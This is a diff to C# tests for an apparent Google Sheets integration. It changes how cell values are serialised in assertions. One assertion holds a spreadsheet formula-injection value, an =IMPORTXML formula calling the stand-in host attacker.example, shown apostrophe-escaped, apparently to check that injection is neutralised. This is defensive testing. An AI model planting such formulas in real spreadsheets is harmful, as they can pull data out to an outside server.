@@ -70,7 +70,10 @@ public abstract class GoogleSheetsTests<TNode>(TNode node) : IClassFixture<TNode
     private List<FakeProvider.Recorded> Calls(Installed installed) =>
         Google.Provider.Requests.Where(r => r.Path.Contains(installed.Sheet.Id, StringComparison.Ordinal)).OrderBy(r => r.At).ToList();
 
-    private static List<string?> Texts(List<JsonNode?> row) => row.Select(c => c?.ToJsonString()).ToList();
+    /// <summary>A row's cells as JSON text (a string quoted, a number bare), to tell "91" from 91.</summary>
+    private static List<string?> Texts(List<JsonNode?> row) => row.Select(c => c?.ToJsonString(Relaxed)).ToList();
+
+    private static readonly System.Text.Json.JsonSerializerOptions Relaxed = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
 
     [Fact]
     public async Task TheCatalogDeclaresGoogleSheetsWithItsScopeSchemaAndPage()
@@ -150,8 +153,8 @@ public abstract class GoogleSheetsTests<TNode>(TNode node) : IClassFixture<TNode
         });
         response.Json()!["updates"]!["updatedCells"]!.GetValue<int>().ShouldBe(6);
         Calls(installed).Single().Query.ShouldContain("valueInputOption=USER_ENTERED");
-        Google.Rows(installed.Sheet.Id, LeadsTab).Single().Select(c => c!.ToJsonString())
-            .ShouldBe(["\"'=IMPORTXML(\\u0022https://attacker.example\\u0022,\\u0022//a\\u0022)\"", "\"-5\"", "\"'@SUM(A1)\"", "12.5", "true", "\"\""]);
+        Texts(Google.Rows(installed.Sheet.Id, LeadsTab).Single())
+            .ShouldBe(["\"'=IMPORTXML(\\\"https://attacker.example\\\",\\\"//a\\\")\"", "\"-5\"", "\"'@SUM(A1)\"", "12.5", "true", "\"\""]);
 
         // An object without configured columns, or an empty row: refused before any call, not retried.
         var before = Google.Provider.Requests.Count;
